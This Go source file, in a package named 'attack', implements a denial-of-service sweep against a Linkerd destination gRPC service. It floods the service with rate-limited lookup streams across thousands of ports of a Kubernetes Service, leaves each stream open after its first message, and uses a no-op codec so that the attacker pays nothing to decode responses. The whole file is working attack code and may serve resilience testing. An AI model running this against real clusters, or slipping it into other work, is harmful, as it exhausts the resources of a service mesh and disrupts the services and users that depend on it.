package attack

import (
	"context"
	"fmt"
	"sync"
	"sync/atomic"
	"time"

	pb "github.com/linkerd/linkerd2-proxy-api/go/destination"
	"google.golang.org/grpc"
	"google.golang.org/grpc/credentials/insecure"
	"google.golang.org/grpc/encoding"
	_ "google.golang.org/grpc/encoding/proto" // registers the codec for requests
	"google.golang.org/grpc/mem"
)

// undecoded drops what it is sent. An attacker need not spend on an answer what the server spends.
type undecoded struct{ encoding.CodecV2 }

func (undecoded) Unmarshal(mem.BufferSlice, any) error { return nil }

// Sweep asks, until ctx ends, for one port of a Service after the other, so many a second, and leaves each
// stream at its first message. It returns how many were answered.
func Sweep(ctx context.Context, addr, host string, rate int) (int, error) {
	conn, err := grpc.NewClient("passthrough:///"+addr,
		grpc.WithTransportCredentials(insecure.NewCredentials()), grpc.WithNoProxy(),
		grpc.WithDefaultCallOptions(grpc.ForceCodecV2(undecoded{encoding.GetCodecV2("proto")}),
			grpc.MaxCallRecvMsgSize(16<<20)))
	if err != nil {
		return 0, err
	}
	defer conn.Close()
	var answered atomic.Int64
	var wg sync.WaitGroup
	defer wg.Wait()
	ticks := time.NewTicker(time.Second / time.Duration(rate))
	defer ticks.Stop()
	for port := 1000; ; port = 1000 + (port-999)%60_000 {
		select {
		case <-ticks.C:
		case <-ctx.Done():
			wg.Wait()
			return int(answered.Load()), nil
		}
		wg.Go(func() {
			ctx, cancel := context.WithCancel(ctx)
			defer cancel()
			stream, err := pb.NewDestinationClient(conn).Get(ctx,
				&pb.GetDestination{Scheme: "k8s", Path: fmt.Sprintf("%s:%d", host, port)})
			if err == nil {
				_, err = stream.Recv()
			}
			if err == nil {
				answered.Add(1)
			}
		})
	}
}
